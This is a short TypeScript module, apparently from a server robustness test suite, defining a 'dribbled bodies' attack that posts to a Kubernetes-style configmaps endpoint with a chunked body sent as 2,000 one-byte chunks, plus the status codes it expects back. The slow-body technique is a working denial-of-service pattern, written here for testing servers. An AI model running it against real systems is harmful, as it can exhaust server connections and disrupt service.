// A body in chunks of one byte.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

const CHUNKS = Buffer.from('1\r\nx\r\n'.repeat(2_000))

export const attack: Attack = {
  reference: 'dribbled bodies',
  does: 'sends chunks of one byte',
  who: ['known', 'unknown'],
  answers: ['200', '400', '401', '403', '408', '413'],
  run: (target, signal) => {
    const post = head1(target, 'POST /api/v1/namespaces/default/configmaps', 'Transfer-Encoding: chunked')
    return attackHttp1(target, signal, {}, () => {
      const pieces = [post]
      return { next: () => pieces.shift() ?? CHUNKS }
    })
  },
}
